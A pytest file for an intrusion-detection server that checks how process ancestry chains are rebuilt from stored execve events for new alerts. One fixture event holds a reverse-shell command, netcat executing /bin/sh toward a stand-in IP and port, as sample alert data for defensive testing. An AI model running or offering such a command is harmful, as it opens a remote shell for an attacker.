"""Process chains for new alerts, rebuilt from the events a real store keeps."""

from __future__ import annotations

import pytest

from elkeid.server.detection import chain_for
from elkeid.server.detection._chains import MAX_DEPTH
from elkeid.server.store import Store
from tests.unit.server.store._helpers import B, enrolled


class CountingStore:
    """A real store that counts the chain queries made through it."""

    def __init__(self, store: Store) -> None:
        self.store, self.queries = store, 0

    def process_events(self, *args, **kwargs):
        self.queries += 1
        return self.store.process_events(*args, **kwargs)


@pytest.fixture
def store(tmp_path):
    s = Store(f"sqlite:///{tmp_path / 'db'}")
    enrolled(s, "a1")
    yield s
    s.close()


def _execve(pid: int, ppid: int, exe: str, ts: int = 100, **more) -> tuple:
    return (59, ts, {"pid": str(pid), "ppid": str(ppid), "exe": exe, "argv": f"{exe.rsplit('/', 1)[-1]} args",
                     "comm": exe.rsplit("/", 1)[-1][:15], **more})  # fmt: skip


def test_pid_tree_finds_every_ancestor_in_one_query(store):
    store.store_batches([B("a1", 1, [_execve(1, 0, "/sbin/init"), _execve(50, 1, "/usr/sbin/sshd"),
                                     _execve(60, 50, "/usr/bin/bash")])])  # fmt: skip
    event = {"agent_id": "a1", "data_type": 59, "timestamp": 200, "pid": "70", "ppid": "60", "exe": "/usr/bin/nc",
             "argv": "nc -e /bin/sh 203.0.113.5 4444", "pid_tree": "70.nc<60.bash<50.sshd<1.init"}  # fmt: skip
    counting = CountingStore(store)
    chain = chain_for(counting, event)
    assert [(c.pid, c.exe, c.source) for c in chain] == [("70", "/usr/bin/nc", "event"), ("60", "/usr/bin/bash", "execve"),
                                                         ("50", "/usr/sbin/sshd", "execve"), ("1", "/sbin/init", "execve")]
    assert chain[1].argv == "bash args" and counting.queries == 1


def test_without_pid_tree_the_chain_follows_ppid_one_query_per_step(store):
    store.store_batches([B("a1", 1, [_execve(1, 0, "/sbin/init"), _execve(50, 1, "/usr/sbin/nginx"),
                                     _execve(60, 50, "/usr/bin/dash")])])  # fmt: skip
    event = {"agent_id": "a1", "data_type": 42, "timestamp": 200, "pid": "70", "ppid": "60", "exe": "/usr/bin/curl"}
    counting = CountingStore(store)
    chain = chain_for(counting, event)
    assert [(c.pid, c.source) for c in chain] == [("70", "event"), ("60", "execve"), ("50", "execve"), ("1", "execve")]
    assert counting.queries == 3  # {70, 60}, then 50, then 1; init's ppid 0 ends it


def test_a_long_or_looping_chain_is_bounded(store):
    deep = [_execve(1000 + i, 1000 + i + 1, f"/bin/p{i}") for i in range(40)]
    store.store_batches([B("a1", 1, deep + [_execve(2, 3, "/bin/a"), _execve(3, 2, "/bin/b")])])
    counting = CountingStore(store)
    chain = chain_for(counting, {"agent_id": "a1", "pid": "999", "ppid": "1000", "timestamp": 200})
    assert len(chain) == MAX_DEPTH and counting.queries <= MAX_DEPTH
    looping = chain_for(store, {"agent_id": "a1", "pid": "9", "ppid": "2", "timestamp": 200})
    assert [c.pid for c in looping] == ["9", "2", "3"]


def test_nothing_known_gives_what_the_event_says(store):
    assert chain_for(store, {"agent_id": "a1", "data_type": 5051, "sport": "8080"}) == []
    chain = chain_for(store, {"agent_id": "a1", "pid": "5", "ppid": "4", "timestamp": 1})
    assert [(c.pid, c.source) for c in chain] == [("5", "event"), ("4", "pid_tree")]
